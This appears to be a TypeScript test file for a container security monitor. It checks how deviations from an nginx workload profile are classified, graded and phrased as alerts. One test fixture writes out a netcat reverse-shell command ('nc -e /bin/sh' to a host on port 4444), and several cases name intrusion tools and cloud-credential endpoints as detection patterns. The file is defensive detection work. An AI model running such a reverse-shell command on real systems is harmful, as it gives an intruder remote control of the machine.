import assert from 'node:assert/strict';
import fc from 'fast-check';
import t from 'tap';
import type { Facts } from '../../../profiles/facts.js';
import { fingerprint } from '../../../profiles/fingerprint.js';
import { learn } from '../../../profiles/learn.js';
import { compile } from '../../../profiles/match/compile.js';
import { type Reason, reasonOf, reasons } from '../../../profiles/reason.js';
import { alertSentence } from '../../../profiles/sentence.js';
import { type Severity, severityOf } from '../../../profiles/severity.js';
import type { Behaviour } from '../../../proto/behaviour.js';
import { aConnect, anExec, anImage, anyBehaviour, aProfile, noon } from '../../support/behaviours.js';

const nginx = '/usr/sbin/nginx';

/** nginx, its entry script, and what they do on the network. */
const web = learn(aProfile(), [
  anExec(),
  anExec({ exe: '/bin/dash', script: '/entry.sh', scriptFile: 'image' }),
  anExec({ exe: '/bin/busybox', applet: 'sleep', parent: '/bin/dash' }),
  anExec({ exe: '/usr/bin/id', parent: '/bin/dash' }),
  aConnect(),
  { kind: 'listen', protocol: 'tcp', port: 80, exe: nginx, session: 'main' },
  { kind: 'inbound', protocol: 'tcp', port: 80, peer: 'any' },
  { kind: 'write', path: '/run/nginx.pid', executable: false },
  { kind: 'settings', setting: 'privileged', value: 'false' },
]).profile;

t.test('every deviation has its reason, its severity and one sentence', async t => {
  const left = anExec({ parent: nginx, user: 101 });
  const table: readonly (readonly [Behaviour, Facts, Reason, Severity, string])[] = [
    [{ ...left, exe: '/bin/ls' }, {}, 'unlisted-program', 'high', 'nginx started /bin/ls, a program that the profile does not list.'],
    [
      { ...left, exe: '/bin/ls', parent: 'start', session: 'exec' },
      {},
      'unlisted-program',
      'medium',
      "A person's session started /bin/ls, a program that the profile does not list.",
    ],
    [
      { ...left, exe: '/bin/ls', parent: '/bin/bash', session: 'exec' },
      {},
      'unlisted-program',
      'medium',
      "In a person's session, bash started /bin/ls, a program that the profile does not list.",
    ],
    [
      { ...left, exe: '/bin/ls', parent: 'start', session: 'health' },
      {},
      'unlisted-program',
      'high',
      'The health check started /bin/ls, a program that the profile does not list.',
    ],
    [
      { ...left, exe: '/bin/busybox', applet: 'nc' },
      {},
      'unlisted-program',
      'high',
      'nginx started /bin/busybox as nc, a program that the profile does not list.',
    ],
    [
      { ...left, exe: '/lib64/ld-linux-x86-64.so.2', script: '/bin/ls', scriptFile: 'image' },
      {},
      'unlisted-program',
      'high',
      'nginx started /bin/ls with /lib64/ld-linux-x86-64.so.2, a program that the profile does not list.',
    ],
    [
      { ...left, exe: '/bin/dash', script: 'inline', parent: nginx, user: 0 },
      {},
      'unlisted-program',
      'high',
      'nginx started /bin/dash with code given to it directly, a listed program with another script and parent.',
    ],
    [
      anExec({ loaders: ['LD_PRELOAD'] }),
      {},
      'unlisted-program',
      'high',
      'The container runtime started /usr/sbin/nginx with LD_PRELOAD set, which the profile does not list.',
    ],
    [
      anExec({ exe: '/usr/bin/id', parent: nginx }),
      {},
      'unlisted-parent',
      'medium',
      'nginx started /usr/bin/id, a program that the profile lists under another parent.',
    ],
    [
      anExec({ exe: '/usr/bin/id', parent: '/bin/dash', user: 33 }),
      {},
      'unlisted-user',
      'medium',
      'dash started /usr/bin/id as user 33, a user that the profile does not list for it.',
    ],
    [
      anExec({ exe: '/bin/dash', script: '/other.sh', scriptFile: 'image' }),
      {},
      'unlisted-script',
      'medium',
      'The container runtime started /other.sh with /bin/dash, a script that the profile does not list.',
    ],
    [
      anExec({ exe: '/bin/dash', script: 'inline' }),
      {},
      'unlisted-script',
      'medium',
      'The container runtime started /bin/dash with code given to it directly, which the profile does not list for it.',
    ],
    [{ ...left, exe: '/tmp/x', file: 'drift' }, {}, 'drift', 'critical', 'nginx started /tmp/x, a program that is not in the image.'],
    [
      { ...left, exe: '/tmp/x', file: 'foreign-overlay' },
      {},
      'drift',
      'critical',
      'nginx started /tmp/x, a program that is not in the image.',
    ],
    [
      { ...left, exe: '/tmp/x', file: 'drift', parent: 'start', session: 'exec' },
      {},
      'drift',
      'high',
      "A person's session started /tmp/x, a program that is not in the image.",
    ],
    [
      anExec({ file: 'drift' }),
      {},
      'drift',
      'critical',
      'The container runtime started /usr/sbin/nginx, a program that is not in the image.',
    ],
    [
      { ...left, exe: '/bin/dash', script: '/tmp/x.sh', scriptFile: 'drift' },
      {},
      'drift',
      'critical',
      'nginx started /tmp/x.sh with /bin/dash, a script that is not in the image.',
    ],
    [
      anExec({ exe: '/bin/dash', script: '/entry.sh', scriptFile: 'drift' }),
      {},
      'drift',
      'critical',
      'The container runtime started /entry.sh with /bin/dash, a script that is not in the image.',
    ],
    [
      { ...left, exe: '/memfd:x', file: 'memfd' },
      {},
      'from-memory',
      'critical',
      'nginx started /memfd:x, a program that exists only in memory.',
    ],
    [
      { ...left, exe: '/tmp/x', file: 'deleted' },
      {},
      'deleted-file',
      'critical',
      'nginx started /tmp/x, a program whose file has been deleted.',
    ],
    [
      { ...left, exe: '/data/x', file: 'mount' },
      {},
      'from-mount',
      'high',
      'nginx started /data/x, a program on a mount that the profile does not list.',
    ],
    [
      anExec({ exe: '/bin/dash', script: '/entry.sh', scriptFile: 'image' }),
      { socketShell: true },
      'socket-shell',
      'critical',
      'The container runtime started /entry.sh with /bin/dash, with a network connection as its input or output.',
    ],
    [{ ...left, exe: '/usr/bin/nmap' }, {}, 'intrusion-tool', 'high', 'nginx started /usr/bin/nmap, a tool that intruders use.'],
    [
      { ...left, exe: '/usr/bin/nc' },
      { argv: ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'] },
      'intrusion-tool',
      'high',
      'nginx started /usr/bin/nc, a tool that intruders use.',
    ],
    [
      { ...left, exe: '/usr/bin/nc' },
      { argv: ['nc', '-z', 'localhost', '80'] },
      'unlisted-program',
      'high',
      'nginx started /usr/bin/nc, a program that the profile does not list.',
    ],
    [anExec({ session: 'exec' }), {}, 'session', 'medium', "A person's session started /usr/sbin/nginx."],
    [
      { ...left, session: 'moved' },
      {},
      'unattributed',
      'critical',
      'nginx started /usr/sbin/nginx, outside of the container, out of whose cgroup it was moved.',
    ],
    [
      { ...left, session: 'entered' },
      {},
      'unattributed',
      'critical',
      'Somebody on the host, past the engine, started /usr/sbin/nginx, in the container or from its files.',
    ],
    [left, { flooded: true }, 'flood', 'high', 'nginx started /usr/sbin/nginx, so often that the rest was only counted.'],
    [
      aConnect({ peer: '203.0.113.9', port: 443, exe: '/tmp/x' }),
      {},
      'unlisted-destination',
      'high',
      'x connected to 203.0.113.9 on tcp port 443, a destination that the profile does not list.',
    ],
    [
      aConnect({ peer: '203.0.113.9', port: 443, exe: '/usr/bin/curl', session: 'exec' }),
      {},
      'unlisted-destination',
      'medium',
      "In a person's session, curl connected to 203.0.113.9 on tcp port 443, a destination that the profile does not list.",
    ],
    [
      aConnect({ peer: '203.0.113.9', port: 443, name: 'api.example.com' }),
      {},
      'unlisted-destination',
      'high',
      'nginx connected to api.example.com (203.0.113.9) on tcp port 443, a destination that the profile does not list.',
    ],
    [
      aConnect({ peer: 'workload:shop/db', port: 5432 }),
      {},
      'unlisted-destination',
      'high',
      'nginx connected to shop/db on tcp port 5432, a destination that the profile does not list.',
    ],
    [
      { ...aConnect({ peer: '2001:db8::1', port: 53, protocol: 'udp' }), kind: 'send' },
      {},
      'unlisted-destination',
      'high',
      'nginx sent to 2001:db8::1 on udp port 53, a destination that the profile does not list.',
    ],
    [
      { kind: 'socket', protocol: 'raw', exe: '/bin/ping', session: 'main' },
      {},
      'unlisted-destination',
      'high',
      'ping opened a raw socket, which the profile does not list.',
    ],
    [
      aConnect({ peer: '169.254.169.254', port: 80 }),
      {},
      'metadata-address',
      'high',
      'nginx connected to 169.254.169.254 on tcp port 80, where the cloud hands out credentials.',
    ],
    [
      aConnect({ peer: '/var/run/docker.sock', protocol: 'unix', port: 0 }),
      {},
      'engine-socket',
      'critical',
      'nginx connected to /var/run/docker.sock, the container engine itself.',
    ],
    [
      { kind: 'listen', protocol: 'tcp', port: 4444, exe: nginx, session: 'main' },
      {},
      'unlisted-listener',
      'high',
      'nginx listens on tcp port 4444, a port that the profile does not list for it.',
    ],
    [
      { kind: 'inbound', protocol: 'tcp', port: 4444, peer: '10.0.0.7' },
      {},
      'unlisted-inbound',
      'medium',
      '10.0.0.7 called tcp port 4444, and the profile does not list that caller.',
    ],
    [
      { kind: 'inbound', protocol: 'tcp', port: 4444, peer: 'any' },
      {},
      'unlisted-inbound',
      'medium',
      'A caller from outside called tcp port 4444, and the profile does not list that caller.',
    ],
    [
      { kind: 'write', path: '/etc/passwd', executable: false },
      {},
      'unlisted-write',
      'medium',
      '/etc/passwd was written, and the profile does not list that.',
    ],
    [
      { kind: 'write', path: '/var/kit/', executable: false, change: 'written', under: '/var' },
      {},
      'unlisted-write',
      'low',
      'Files were written below /var/kit/, and the profile does not list that.',
    ],
    [
      { kind: 'write', path: '/usr/share/doc', executable: false, change: 'removed', under: '' },
      {},
      'unlisted-write',
      'low',
      '/usr/share/doc, which the image has, was removed, and the profile does not list that.',
    ],
    [
      { kind: 'write', path: '/tmp/', executable: true, change: 'written', under: '/tmp' },
      {},
      'executable-written',
      'high',
      'Files were written below /tmp/, executable ones that the profile does not list.',
    ],
    [
      { kind: 'write', path: '/bin/su', executable: true, change: 'metadata', under: '' },
      {},
      'executable-written',
      'high',
      '/bin/su has another owner, mode or capabilities than in the image, an executable file that the profile does not list.',
    ],
    [
      { kind: 'write', path: '/tmp/x', executable: true },
      {},
      'executable-written',
      'high',
      '/tmp/x was written, an executable file that the profile does not list.',
    ],
    [
      { kind: 'settings', setting: 'pids', value: '100' },
      {},
      'settings-differ',
      'medium',
      'The container was started with pids 100, which the profile does not list.',
    ],
    [
      { kind: 'settings', setting: 'privileged', value: 'true' },
      {},
      'dangerous-setting',
      'high',
      'The container was started with privileged true, which opens the host to it.',
    ],
    [
      { kind: 'image', id: anImage, repository: 'shop/web' },
      {},
      'new-image',
      'medium',
      'The workload runs image shop/web, which nobody has approved for it.',
    ],
    [
      { kind: 'image', id: anImage },
      { tampered: { layer: 'sha256:1', at: 1, path: '/bin/sh', differs: 'content', count: 1 } },
      'image-tampered',
      'critical',
      `The workload runs image ${anImage}, whose layers on this host are not what they were: /bin/sh in layer 1 (sha256:1): content.`,
    ],
  ];
  const matcher = compile(web);
  for (const [behaviour, facts, reason, severity, sentence] of table) {
    const verdict = matcher.verdict(behaviour, anImage, noon);
    const said = reasonOf(behaviour, verdict, facts);
    t.same([said, severityOf(said, behaviour), alertSentence(behaviour, said, verdict, facts)], [reason, severity, sentence]);
  }
  const bare = { kind: 'deviation', differs: [] } as const;
  t.equal(reasonOf(anExec({ exe: '/bin/x' }), bare, {}), 'unlisted-program', 'no entry near: the program, not its script');
  t.equal(reasonOf(anExec({ exe: '/vol/x', file: 'mount' }), bare, {}), 'from-mount');
  const told = new Set(table.map(([, , reason]) => reason));
  t.same(
    reasons.filter(reason => !told.has(reason)),
    [],
    'no reason is without a case',
  );
});

t.test('a sentence always ends in a full stop, is one line and never quotes a command line', async t => {
  const argv = ['nginx', '--password', 'hunter2-secret'];
  t.doesNotThrow(() =>
    fc.assert(
      fc.property(anyBehaviour, fc.boolean(), (behaviour, socketShell) => {
        const verdict = compile(web).verdict(behaviour, anImage, noon);
        const sentence = alertSentence(behaviour, reasonOf(behaviour, verdict, { argv, socketShell }), verdict);
        assert.match(sentence, /^\S.*[^.]\.$/);
        assert.doesNotMatch(sentence, /hunter2|undefined/);
      }),
    ),
  );
});

t.test('a fingerprint tells workload, reason and behaviour apart, and nothing else', async t => {
  const one = fingerprint('shop/web', 'drift', anExec());
  t.match(one, /^[0-9a-f]{32}$/);
  t.equal(fingerprint('shop/web', 'drift', anExec()), one);
  t.not(fingerprint('shop/api', 'drift', anExec()), one);
  t.not(fingerprint('shop/web', 'session', anExec()), one);
  t.not(fingerprint('shop/web', 'drift', anExec({ user: 1 })), one);
});
